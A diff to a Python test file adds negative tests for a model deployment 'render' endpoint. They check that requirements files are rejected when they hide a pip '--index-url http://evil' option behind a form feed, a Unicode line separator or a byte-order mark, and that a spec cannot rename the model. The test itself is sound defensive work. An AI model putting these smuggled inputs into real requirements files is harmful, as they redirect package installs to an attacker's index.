@@ -208,4 +208,16 @@ def test_python_model_renders_its_requirements(server, models, k8s_validate):
     register(server, models, "pyfunc", "lin3")
     r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/lin3/1"})
     assert r.status_code == 400 and "--global-option" in r.json()["message"], r.text
+    # What pip would read as a new line: a form feed, a Unicode line separator, a byte-order mark.
+    for i, text in enumerate([b"numpy\x0c--index-url http://evil\n", "numpy\u2028--index-url x\n".encode(),
+                              b"\xef\xbb\xbf--index-url http://evil\n"]):
+        with open(os.path.join(pyfunc, "requirements.txt"), "wb") as f:
+            f.write(text)
+        register(server, models, "pyfunc", "hidden%d" % i)
+        r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/hidden%d/1" % i})
+        assert r.status_code == 400, r.text
     os.remove(os.path.join(pyfunc, "requirements.txt"))
+    # The spec cannot rename the model it renders.
+    r = requests.post(server.url + "/api/2.0/tamga/deploy/render",
+                      json={"model_uri": "models:/lin/1", "spec": {"model_name": "other"}})
+    assert r.status_code == 400 and "model_name" in r.json()["message"], r.text
